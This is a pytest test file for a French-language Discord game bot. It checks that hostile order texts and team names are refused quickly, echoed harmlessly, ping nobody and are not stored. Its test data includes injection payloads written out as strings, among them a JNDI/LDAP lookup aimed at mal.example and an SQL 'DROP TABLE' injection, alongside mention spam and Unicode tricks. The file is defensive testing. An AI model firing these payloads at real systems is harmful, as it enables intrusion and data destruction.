"""Hostile texts, through every way in: refused cheaply and politely, echoed harmlessly, nobody pinged, nothing kept."""

import time
from typing import Any

import pytest

from referee.course import sending
from referee.league import leagues, teams
from rules.errors import OrderError
from rules.kollaball.notation import parse
from tests.e2e.forging import answer_of, pings
from tests.e2e.match import install
from tests.e2e.played import Played, played
from tests.rules.kollaball.test_order_errors import team
from tests.support.league import League
from tests.support.reading import text_of

CHEAP_S = 0.05
NOTHING_SENT = "Rien n'a été envoyé, et rien n'est perdu"
ZALGO = "1 R D4" + "\u0301\u0310\u0334\u0489" * 100
HOSTILE = {
    "nul": "1 P >B4\x00; 2 R B4",
    "right to left": "\u202e1 P >B4\u202c; 2 R B4",
    "zero width": "1\u200b P >\u200bB4",
    "byte order mark": "\ufeff1 P >B4",
    "zalgo": ZALGO,
    "everyone": "@everyone @here",
    "a role": "1 P <@&123456789012345678>",
    "a user": "<@123456789012345678> <#1> </regles:1>",
    "a masked link": "1 P [gagner](https://mal.example)",
    "a code fence": "```py\nimport os\n```",
    "a spoiler": "||1 P >B4||",
    "markup": "**1** __P__ ~~>B4~~ # titre\n> cité\n-# petit",
    "digits": "1 V+" + "9" * 1900,
    "a digit too many": "1" * 1999,
    "homoglyphs": "1 P >\u0412\u0410; 2 R \u04214",
    "full-width": "\uff11 P >B4",
    "braces": "{ $allowed } {0} %s ${jndi:ldap://mal.example}",
    "sql": "1 P >B4'; DROP TABLE draft; --",
    "emoji": "\U0001f3f3\ufe0f\u200d\U0001f308 1 P >B4 <:ballon:123456789012345678>",
    "many parts": "1;" * 999,
    "many steps": "1 R " + ">".join(["D4"] * 600),
    "many actions": "1 " + " + ".join(["R D4"] * 280),
    "separators": ";" * 1999,
    "quotes": "`" * 1999,
    "backslashes": "\\" * 1999,
    "brackets": "((((" * 400 + "[" * 300,
}
RAW = ("<@", "@everyone", "@here", "](http", "||1", "```py", "\x00", "\u202e", "\u200d", "\ufeff", "https://mal")


async def kept(match: Played) -> list[str]:
    turn = await match.turn()
    return [seat for seat in turn.awaiting if await sending.find_own_order(match.app.house, turn.id, seat) is not None]


def is_harmless(told: str) -> bool:
    """Return whether an echo pings, links, hides, or climbs nowhere."""
    outside_code = "".join(told.split("`")[::2])
    return not [raw for raw in RAW if raw in outside_code.replace("\\|", "")] and "\u0301" * 3 not in told


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
def test_the_parser_refuses_cheaply(text: str):
    for sent in (text, (text * 4000)[:4000], text * 50):
        start = time.thread_time()
        with pytest.raises(OrderError):
            parse(team(), "rouge", sent)
        assert time.thread_time() - start < CHEAP_S


@pytest.mark.parametrize("text", ["9" * 100_000, "1 R D4;" * 15_000, "\ud800" * 100_000, "`*_" * 40_000])
def test_a_huge_text_is_refused_before_it_is_read(text: str):
    start = time.thread_time()
    with pytest.raises(OrderError, match="syntax"):
        parse(team(), "rouge", text)
    assert time.thread_time() - start < CHEAP_S


async def test_hostile_dms_are_refused_in_one_harmless_answer(league: League):
    match = await played(league)
    captain, since, faults = match.red[0], len(league.env.http_requests), []
    for name, text in HOSTILE.items():
        answers = [text_of(answer).replace("\u202f", " ") for answer in await captain.dm(text)]
        if len(answers) != 1 or NOTHING_SENT not in answers[0] or not is_harmless(answers[0]):
            faults.append((name, answers))
    assert faults == []
    assert pings(league, since) == []
    assert await kept(match) == []
    assert "Envoyer ces ordres" in text_of((await captain.dm("1 P >B4; 2 R B4; 3 R B5; 4 R B5"))[0])


async def test_hostile_texts_by_form_and_command_are_given_back_harmlessly(league: League):
    match = await played(league)
    captain, since, faults = match.red[0], len(league.env.http_requests), []
    for name, text in HOSTILE.items():
        form = await captain.press(match.panel, "type")
        told = answer_of(await captain.fill(form, text=text))
        by_command = answer_of(await captain.command("kollaball ordres", texte=text))
        if NOTHING_SENT not in told or not is_harmless(told) or by_command != told:
            faults.append((name, told, by_command))
    assert faults == []
    assert pings(league, since) == []
    assert await kept(match) == []


@pytest.mark.parametrize("length", [4000, 4001, 6000])
async def test_a_text_of_4000_characters_is_read_and_one_more_is_not(league: League, length: int):
    match = await played(league)
    order = "1 P >B4; 2 R B4; 3 R B5; 4 R B5"
    told = answer_of(
        await match.red[0].command("kollaball ordres", here=match.thread, texte=order + " " * (length - len(order)))
    )
    assert ("Envoyer ces ordres" in told) == (length == 4000)
    assert ("Texte trop long : 4 000 caractères au plus" in told) == (length > 4000)


async def test_the_longest_form_is_read(league: League):
    match = await played(league)
    form = await match.red[0].press(match.panel, "type")
    told = answer_of(await match.red[0].fill(form, text="ARRET" + " pitié" * 660))
    assert "Envoyer ces ordres" in told


@pytest.mark.parametrize("text", ["🏒" * 1_700, "1 P >B4; " + "🏴" * 990])
async def test_an_order_of_emoji_is_refused_as_any_other(league: League, text: str):
    match = await played(league)
    captain = match.red[0]
    (told,) = await captain.dm(text)
    assert NOTHING_SENT in text_of(told).replace("\u202f", " ")
    by_command = answer_of(await captain.command("kollaball ordres", here=match.thread, texte=text))
    assert NOTHING_SENT in by_command and "ma faute" not in by_command


async def test_half_a_surrogate_pair_is_no_fault_of_ours(league: League):
    match = await played(league)
    captain = match.red[0]
    form = await captain.press(match.panel, "type")
    shown = await captain.fill(form, text="ARRET \ud800 merci")
    assert "Envoyer ces ordres" in answer_of(shown)
    assert "Bien reçu" in answer_of(await captain.press(shown.response, "order-ok"))
    refused = await match.blue[0].command("kollaball ordres", texte="1 R \udfff")
    assert NOTHING_SENT in answer_of(refused)


@pytest.mark.parametrize(
    ("name", "content", "told"),
    [
        ("message.txt", b"1 R D4;" * 15_000, "Discord en a fait un fichier"),
        ("photo.png", b"\x89PNG", "Je ne lis que du texte"),
        ("ordres.txt", b"1 P >B4", "Je ne lis que du texte"),
    ],
)
async def test_a_file_in_place_of_a_text(league: League, name: str, content: bytes, told: str):
    match = await played(league)
    [answer] = await match.red[0].dm("", files=[(name, content)])
    assert told in text_of(answer)
    assert NOTHING_SENT in text_of(answer)
    [shown] = await match.red[0].dm("1 P >B4; 2 R B4; 3 R B5; 4 R B5", files=[(name, content)])
    assert "Envoyer ces ordres" in text_of(shown), "a text with a picture is a text"


async def test_a_blank_or_invisible_text_is_no_order(league: League):
    match = await played(league)
    for text in ("\u200b", "\u3164", "\u2800\u2800", "\u00ad", "\u180e"):
        [answer] = await match.red[0].dm(text)
        assert NOTHING_SENT in text_of(answer)
    assert await kept(match) == []


async def test_answers_are_in_the_users_language(league: League):
    match = await played(league)
    captain = match.red[0].speaks("en-GB")
    told = answer_of(await captain.command("kollaball ordres", texte="1 P >Z9"))
    assert "Nothing was sent, and nothing is lost" in told
    await captain.command("reglages", langue="en")
    [answer] = await captain.dm("1 P >Z9")
    assert "Nothing was sent, and nothing is lost" in text_of(answer)
    [answer] = await captain.dm("", files=[("a.png", b"")])
    assert "I read text only" in text_of(answer)


NAMES = {
    "@everyone": "@\u200beveryone",
    "<@&123456789012345678>": "\\<@\u200b&123456789012345678\\>",
    "[clic](https://mal.example)": "\\[clic\\]\\(https:\u200b//mal.example\\)",
    "||secret|| ```x```": "\\|\\|secret\\|\\|",
    "\u202eselgiA seL\u202c": "selgiA seL",
    "{ $team } \\": "{ $team } \\\\",
    "A" + "\u0301" * 35: "A\u0301\u0301",
}


@pytest.mark.parametrize("name", NAMES, ids=ascii)
async def test_hostile_names_are_shown_harmlessly(league: League, organiser: Any, name: str):
    await install(league, organiser, league.role("Arbitres"))
    here, since = league.channel("general"), len(league.env.http_requests)
    for number in range(2):
        person = league.person(f"p{number}")
        given = {"equipe": name, "classe": "archer", "coterie": name, "ville": name}
        told = answer_of(await person.command("kollaball inscrire", here=here, **given))
        assert NAMES[name] in told
        assert is_harmless(told.replace("@\u200b", "").replace(f"<@{person.id}>", "").replace("<@", "")), told
    found = await teams.list_teams(league.bot.app.house, (await _league(league)).id, "kollaball")
    assert len(found) == 1, "the same name is the same team"
    for typed in (name[:20], "@", "\x00"):
        offered = await person.complete("kollaball inscrire", "equipe", typed, here=here, classe="archer")
        assert all("\u202e" not in choice["name"] for choice in offered)
    assert pings(league, since) == []


@pytest.mark.parametrize("name", ["\u200b\u200b", "\u3164\u3164", "\u202e\u202c\u202d", "\x00\x01"])
async def test_a_name_of_nothing_is_refused(league: League, organiser: Any, name: str):
    await install(league, organiser, league.role("Arbitres"))
    person = league.person("personne")
    told = answer_of(
        await person.command("kollaball inscrire", here=league.channel("general"), equipe=name, classe="archer")
    )
    assert "nom" in told
    assert await teams.list_teams(league.bot.app.house, (await _league(league)).id, "kollaball") == []


async def _league(league: League) -> Any:
    return await leagues.find_league(league.bot.app.house, league.guild.id)
